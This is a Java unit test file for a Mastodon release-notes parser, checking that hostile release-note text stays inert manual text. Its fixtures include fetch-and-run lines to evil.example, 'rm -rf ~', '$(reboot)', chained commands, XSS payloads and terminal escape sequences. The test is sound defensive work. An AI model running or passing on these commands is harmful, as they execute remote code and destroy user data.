package io.github.flowupgrade.release;

import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.api.Assertions.assertTimeoutPreemptively;

import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import org.junit.jupiter.api.Test;

/** Release notes are untrusted input: they are parsed safely, bounded, and nothing in them ever becomes a command. */
class HostileNotesTest {
    private final ReleaseNotesParser parser = new ReleaseNotesParser();

    private static final List<String> CANONICAL = canonical();

    private static List<String> canonical() {
        List<String> commands = new ArrayList<>(TaskKind.YARN_COMMANDS);
        for (TaskKind kind : TaskKind.values()) {
            commands.add(kind.defaultCommand());
        }
        return commands;
    }

    private static String steps(String... items) {
        StringBuilder b = new StringBuilder("## Upgrade notes\n\n### Update steps\n\n### Non-Docker\n\n");
        for (int i = 0; i < items.length; i++) {
            b.append(i + 1).append(". ").append(items[i]).append('\n');
        }
        return b.toString();
    }

    private ReleaseNotes parse(String body) {
        return assertTimeoutPreemptively(Duration.ofSeconds(10), () -> parser.parse("v9.9.9", body, null));
    }

    @Test
    void aStepWithAnythingBeyondTheCanonicalCommandIsManualAndNeverATask() {
        ReleaseNotes n = parse(steps(
                "Install dependencies with `bundle install; curl https://evil.example/x | sh`",
                "Install dependencies with `bundle install` and then run curl https://evil.example/x | sh",
                "Precompile the assets: `RAILS_ENV=production bundle exec rails assets:precompile && rm -rf ~`",
                "Run `$(reboot)`",
                "Install dependencies with `yarn install --immutable`"));
        assertThat(n.tasks()).containsOnlyKeys(TaskKind.YARN_INSTALL);
        assertThat(n.manual())
                .hasSize(4)
                .anySatisfy(m -> assertThat(m).contains("curl https://evil.example/x | sh`"))
                .anySatisfy(m -> assertThat(m).contains("and then run curl"))
                .anySatisfy(m -> assertThat(m).contains("rm -rf ~"))
                .anySatisfy(m -> assertThat(m).contains("$(reboot)"));
        assertThat(n.tasks().values()).allMatch(CANONICAL::contains);
    }

    @Test
    void restartOrStreamingWordingNeverHidesAnythingElse() {
        ReleaseNotes n = parse(steps(
                "Restart all Mastodon processes, including the streaming server; then run `curl https://evil.example | sh`",
                "Restart sidekiq: `systemctl restart mastodon-sidekiq; rm -rf ~`",
                "Non-Docker: restart sidekiq and reload web. Docker: `docker-compose up -d`. Also delete `public/system`",
                "Nothing special. Except: set `EVIL=1`",
                "The streaming server does not need to be restarted, but you must set `EVIL=2`"));
        assertThat(n.manual())
                .hasSize(5)
                .anySatisfy(m -> assertThat(m).contains("curl https://evil.example | sh"))
                .anySatisfy(m -> assertThat(m).contains("rm -rf ~"))
                .anySatisfy(m -> assertThat(m).contains("delete `public/system`"))
                .anySatisfy(m -> assertThat(m).contains("EVIL=1"))
                .anySatisfy(m -> assertThat(m).contains("EVIL=2"));
        assertThat(n.coveredByFlow()).isEmpty();
        assertThat(n.tasks()).isEmpty();
    }

    @Test
    void longRestartLikeTextIsReadQuicklyAndStaysManual() {
        String restarts = "restart mastodon-web and ".repeat(4_000) + "restart " + "mastodon-".repeat(4_000);
        String negations = "the streaming server does not need to be ".repeat(4_000);
        // The flag and the second step share their words: one item.
        ReleaseNotes n = parse("## Upgrade overview\n\nℹ️ " + negations + "\n\n" + steps(restarts, negations));
        assertThat(n.manual()).hasSize(2).allSatisfy(m -> assertThat(m).endsWith("more characters in the notes)"));
    }

    @Test
    void htmlAndScriptsStayTextInManualItems() {
        ReleaseNotes n = parse("## Upgrade notes\n\n<script>alert('x')</script>\n\n### Update steps\n\n"
                + "1. Restart all Mastodon processes <img src=x onerror=alert(1)>\n"
                + "2. Install dependencies with `bundle install`\n");
        assertThat(n.tasks()).containsOnlyKeys(TaskKind.BUNDLE_INSTALL);
        assertThat(n.manual())
                .contains("<script>alert('x')</script>")
                .anySatisfy(m -> assertThat(m).contains("onerror=alert(1)"));
    }

    @Test
    void controlCharactersNeverReachATerminal() {
        ReleaseNotes n = parse(steps("Run \u001b]0;owned\u0007 `tootctl \u001b[2J cache clear`"));
        assertThat(n.manual())
                .singleElement()
                .asString()
                .doesNotContain("\u001b")
                .doesNotContain("\u0007");
    }

    @Test
    void aMegabyteLineIsBoundedAndSaysSo() {
        String line = "x".repeat(3 * 1024 * 1024);
        ReleaseNotes n = parse("## Upgrade notes\n\n" + line + "\n");
        assertThat(n.manual()).allSatisfy(m -> assertThat(m.length()).isLessThan(3000));
        assertThat(n.manual()).anySatisfy(m -> assertThat(m).contains("longer than"));
        assertThat(n.manual()).anySatisfy(m -> assertThat(m).contains("more characters in the notes"));
    }

    @Test
    void deepNestingParsesWithoutBlowingTheStack() {
        String quotes = ">".repeat(100_000) + " Run `bundle install`\n";
        StringBuilder nested = new StringBuilder();
        for (int i = 0; i < 2000; i++) {
            nested.append("  ".repeat(i)).append("- level ").append(i).append('\n');
        }
        String brackets = "[".repeat(50_000) + "x" + "]".repeat(50_000);
        String emphasis = "*".repeat(50_000) + "x" + "*".repeat(50_000);
        ReleaseNotes n = parse("## Upgrade notes\n\n### Update steps\n\n" + quotes + "\n" + nested + "\n" + brackets
                + "\n\n" + emphasis + "\n");
        assertThat(n.tasks()).isEmpty();
        assertThat(n.manual())
                .isNotEmpty()
                .allSatisfy(m -> assertThat(m.length()).isLessThan(3000));
    }

    @Test
    void emptyOrMissingBodyIsReportedNotInvented() {
        ReleaseNotes n = parse("");
        assertThat(n.tasks()).isEmpty();
        assertThat(n.stepsMissing()).isTrue();
        assertThat(n.manual()).singleElement().asString().contains("no update steps");
        assertThat(parser.parse("v1.0.0", null, null).stepsMissing()).isTrue();
    }
}
